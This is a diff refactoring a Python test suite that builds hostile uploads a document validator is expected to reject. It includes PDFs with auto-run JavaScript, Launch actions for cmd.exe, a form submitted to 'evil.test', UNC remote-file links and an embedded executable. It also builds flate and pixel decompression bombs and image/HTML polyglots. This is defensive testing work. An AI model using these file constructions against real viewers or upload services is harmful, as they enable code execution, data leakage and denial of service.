@@ -106,7 +106,7 @@ def of_no_size() -> Iterator[Case]:
     yield "one byte", "licence.png", b"\x89", "document.kind"
 
 
-def pictures() -> Iterator[Case]:
+def damaged_pictures() -> Iterator[Case]:
     whole, jpeg = picture(size=(400, 300)), picture("JPEG", (400, 300))
     for name, content in {
         "png cut short": whole[: len(whole) // 2],
@@ -121,6 +121,9 @@ def pictures() -> Iterator[Case]:
         "jpeg cut short": jpeg[: len(jpeg) // 3],
     }.items():
         yield name, "licence.png", content, "document.broken"
+
+
+def picture_bombs() -> Iterator[Case]:
     yield "png of 900 megapixels", "licence.png", png_of(30_000, 30_000), "document.too_large_picture"
     yield (
         "png bomb that unpacks",
@@ -129,7 +132,7 @@ def pictures() -> Iterator[Case]:
         "document.too_large_picture",
     )
     yield "png of the largest sides", "licence.png", png_of(2**31 - 1, 2**31 - 1), "document.too_large_picture"
-    wide = jpeg.replace(struct.pack(">HH", 300, 400), struct.pack(">HH", 65_000, 65_000), 1)
+    wide = picture("JPEG", (400, 300)).replace(struct.pack(">HH", 300, 400), struct.pack(">HH", 65_000, 65_000), 1)
     yield "jpeg of 4,225 megapixels", "licence.jpg", wide, "document.too_large_picture"
     bomb = b"Comment\x00\x00" + packed(64 * MB)
     yield (
@@ -145,6 +148,10 @@ def pictures() -> Iterator[Case]:
         png_of(1, 1, _chunk(b"iCCP", profile), data=b"\x00" * 4),
         "document.broken",
     )
+
+
+def pictures_with_more() -> Iterator[Case]:
+    whole, jpeg = picture(size=(400, 300)), picture("JPEG", (400, 300))
     exif = Image.Exif()
     exif[0x010F], exif[0x8298] = "SECRET-CAMERA", SCRIPT.decode()
     yield "jpeg with EXIF", "licence.jpg", picture("JPEG", exif=exif), ""
@@ -154,50 +161,57 @@ def pictures() -> Iterator[Case]:
     yield "png and html", "licence.html", whole + b"<html>" + SCRIPT, ""
 
 
+def _says(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
+    return lambda made: made.Root.__setattr__("OpenAction", made.make_indirect(action))
+
+
+def _annotated(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
+    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
+    return lambda made: made.pages[0].obj.__setattr__("Annots", Array([made.make_indirect(link)]))
+
+
+def _attached(made: pikepdf.Pdf) -> None:
+    made.attachments["x.exe"] = b"MZ"
+
+
+def _rooted(**keys: Any) -> Callable[[pikepdf.Pdf], None]:
+    return lambda made: [made.Root.__setattr__(key, value) for key, value in keys.items()] and None
+
+
+def _paged(**keys: Any) -> Callable[[pikepdf.Pdf], None]:
+    return lambda made: [made.pages[0].obj.__setattr__(key, value) for key, value in keys.items()] and None
+
+
+def _outside(made: pikepdf.Pdf) -> None:
+    made.Root.Extra = made.make_stream(b"", F="\\\\server\\share")
+
+
+def _script() -> Dictionary:
+    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")
+
+
 def acting_pdfs() -> Iterator[Case]:
-    def says(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
-        return lambda made: made.Root.__setattr__("OpenAction", made.make_indirect(action))
-
-    def annotated(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
-        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
-        return lambda made: made.pages[0].obj.__setattr__("Annots", Array([made.make_indirect(link)]))
-
-    def attached(made: pikepdf.Pdf) -> None:
-        made.attachments["x.exe"] = b"MZ"
-
-    def rooted(**keys: Any) -> Callable[[pikepdf.Pdf], None]:
-        return lambda made: [made.Root.__setattr__(key, value) for key, value in keys.items()] and None
-
-    def paged(**keys: Any) -> Callable[[pikepdf.Pdf], None]:
-        return lambda made: [made.pages[0].obj.__setattr__(key, value) for key, value in keys.items()] and None
-
-    def outside(made: pikepdf.Pdf) -> None:
-        made.Root.Extra = made.make_stream(b"", F="\\\\server\\share")
-
-    def script() -> Dictionary:
-        return Dictionary(S=Name.JavaScript, JS="app.alert(1)")
-
     for name, change in {
-        "script on opening": says(script()),
-        "launch on opening": says(Dictionary(S=Name.Launch, F="cmd.exe")),
-        "script by name": rooted(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", script()])))),
-        "script on a page": paged(AA=Dictionary(O=script())),
-        "script on a link": annotated(script()),
-        "launch on a link": annotated(Dictionary(S=Name.Launch, F="cmd.exe")),
-        "remote file on a link": annotated(Dictionary(S=Name.GoToR, F="\\\\server\\x.pdf")),
-        "form sent on a link": annotated(Dictionary(S=Name.SubmitForm, F="https://evil.test")),
-        "data fetched on a link": annotated(Dictionary(S=Name.ImportData, F="x.fdf")),
-        "script at the end of a chain": annotated(Dictionary(S=Name.URI, URI="https://a.test", Next=script())),
-        "attachment": attached,
-        "portfolio": rooted(Collection=Dictionary(View=Name.T)),
-        "form with XFA": rooted(AcroForm=Dictionary(Fields=Array([]), XFA="<xdp/>")),
-        "rich media": paged(Annots=Array([Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary())])),
-        "movie": annotated(Dictionary(S=Name.Movie)),
-        "stream of another file": outside,
+        "script on opening": _says(_script()),
+        "launch on opening": _says(Dictionary(S=Name.Launch, F="cmd.exe")),
+        "script by name": _rooted(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", _script()])))),
+        "script on a page": _paged(AA=Dictionary(O=_script())),
+        "script on a link": _annotated(_script()),
+        "launch on a link": _annotated(Dictionary(S=Name.Launch, F="cmd.exe")),
+        "remote file on a link": _annotated(Dictionary(S=Name.GoToR, F="\\\\server\\x.pdf")),
+        "form sent on a link": _annotated(Dictionary(S=Name.SubmitForm, F="https://evil.test")),
+        "data fetched on a link": _annotated(Dictionary(S=Name.ImportData, F="x.fdf")),
+        "script at the end of a chain": _annotated(Dictionary(S=Name.URI, URI="https://a.test", Next=_script())),
+        "attachment": _attached,
+        "portfolio": _rooted(Collection=Dictionary(View=Name.T)),
+        "form with XFA": _rooted(AcroForm=Dictionary(Fields=Array([]), XFA="<xdp/>")),
+        "rich media": _paged(Annots=Array([Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary())])),
+        "movie": _annotated(Dictionary(S=Name.Movie)),
+        "stream of another file": _outside,
     }.items():
         yield f"pdf: {name}", "licence.pdf", pdf(change), "document.active"
         if name == "script on opening":
-            hidden = pdf(says(script()), object_stream_mode=pikepdf.ObjectStreamMode.generate)
+            hidden = pdf(_says(_script()), object_stream_mode=pikepdf.ObjectStreamMode.generate)
             yield "pdf: script in an object stream", "licence.pdf", hidden, "document.active"
 
 
@@ -219,45 +233,52 @@ def other_pdfs() -> Iterator[Case]:
     yield "pdf: and html", "licence.pdf.html", whole + SCRIPT, ""
     yield "pdf: and zip", "licence.zip", whole + archive(), ""
 
-    def huge(made: pikepdf.Pdf) -> None:
-        made.pages[0].mediabox = Array([0, 0, 1_000_000, 1_000_000])
 
-    def flat(made: pikepdf.Pdf) -> None:
-        made.pages[0].mediabox = Array([0, 0, 0, 0])
+def _huge(made: pikepdf.Pdf) -> None:
+    made.pages[0].mediabox = Array([0, 0, 1_000_000, 1_000_000])
 
-    def bomb(times: int) -> Callable[[pikepdf.Pdf], None]:
-        filters = Array([Name.FlateDecode] * times) if times > 1 else Name.FlateDecode
 
-        def change(made: pikepdf.Pdf) -> None:
-            stream = pikepdf.Stream(made, packed(300 * MB, times))
-            stream.Filter = filters
-            made.pages[0].Contents = made.make_indirect(stream)
+def _flat(made: pikepdf.Pdf) -> None:
+    made.pages[0].mediabox = Array([0, 0, 0, 0])
 
-        return change
 
-    def image(width: int, height: int) -> Callable[[pikepdf.Pdf], None]:
-        def change(made: pikepdf.Pdf) -> None:
-            stream = made.make_stream(b"\x00", Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height)
-            made.pages[0].Resources = Dictionary(XObject=Dictionary(I=stream))
-            made.pages[0].Contents = made.make_stream(b"/I Do")
+def _bomb(times: int) -> Callable[[pikepdf.Pdf], None]:
+    filters = Array([Name.FlateDecode] * times) if times > 1 else Name.FlateDecode
 
-        return change
+    def change(made: pikepdf.Pdf) -> None:
+        stream = pikepdf.Stream(made, packed(300 * MB, times))
+        stream.Filter = filters
+        made.pages[0].Contents = made.make_indirect(stream)
 
-    def crowd(made: pikepdf.Pdf) -> None:
-        made.Root.Crowd = Array([made.make_indirect(Dictionary(N=n)) for n in range(20_100)])
+    return change
 
-    yield "pdf: a page of kilometres", "licence.pdf", pdf(huge), "document.bomb"
-    yield "pdf: a page of nothing", "licence.pdf", pdf(flat), "document.bomb"
-    yield "pdf: flate bomb", "licence.pdf", lambda: pdf(bomb(1), compress_streams=False), "document.bomb"
-    yield "pdf: flate in flate", "licence.pdf", lambda: pdf(bomb(2), compress_streams=False), "document.bomb"
-    yield "pdf: flate six deep", "licence.pdf", lambda: pdf(bomb(6), compress_streams=False), "document.bomb"
+
+def _image(width: int, height: int) -> Callable[[pikepdf.Pdf], None]:
+    def change(made: pikepdf.Pdf) -> None:
+        stream = made.make_stream(b"\x00", Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height)
+        made.pages[0].Resources = Dictionary(XObject=Dictionary(I=stream))
+        made.pages[0].Contents = made.make_stream(b"/I Do")
+
+    return change
+
+
+def _crowd(made: pikepdf.Pdf) -> None:
+    made.Root.Crowd = Array([made.make_indirect(Dictionary(N=n)) for n in range(20_100)])
+
+
+def pdf_bombs() -> Iterator[Case]:
+    yield "pdf: a page of kilometres", "licence.pdf", pdf(_huge), "document.bomb"
+    yield "pdf: a page of nothing", "licence.pdf", pdf(_flat), "document.bomb"
+    yield "pdf: flate bomb", "licence.pdf", lambda: pdf(_bomb(1), compress_streams=False), "document.bomb"
+    yield "pdf: flate in flate", "licence.pdf", lambda: pdf(_bomb(2), compress_streams=False), "document.bomb"
+    yield "pdf: flate six deep", "licence.pdf", lambda: pdf(_bomb(6), compress_streams=False), "document.bomb"
     yield (
         "pdf: picture of 900 megapixels",
         "licence.pdf",
-        lambda: pdf(image(30_000, 30_000)),
+        lambda: pdf(_image(30_000, 30_000)),
         "document.too_large_picture",
     )
-    yield "pdf: twenty thousand objects", "licence.pdf", lambda: pdf(crowd), "document.bomb"
+    yield "pdf: twenty thousand objects", "licence.pdf", lambda: pdf(_crowd), "document.bomb"
     yield "pdf: nested a thousand deep", "licence.pdf", _nested(1000), "document.broken"
     yield "pdf: pages that hold themselves", "licence.pdf", _own_parent(), "document.broken"
     yield "pdf: object stream bomb", "licence.pdf", _object_stream_bomb, "document.broken"
@@ -308,5 +329,9 @@ def named_badly() -> Iterator[Case]:
 
 
 def cases() -> list[Case]:
-    made = (nothing_it_is, of_no_size, pictures, acting_pdfs, other_pdfs, named_badly)
+    made = (
+        nothing_it_is, of_no_size, damaged_pictures, picture_bombs, pictures_with_more, acting_pdfs, other_pdfs, pdf_bombs,
+        named_badly,
+    )  # fmt: skip
+
     return [case for kind in made for case in kind()]
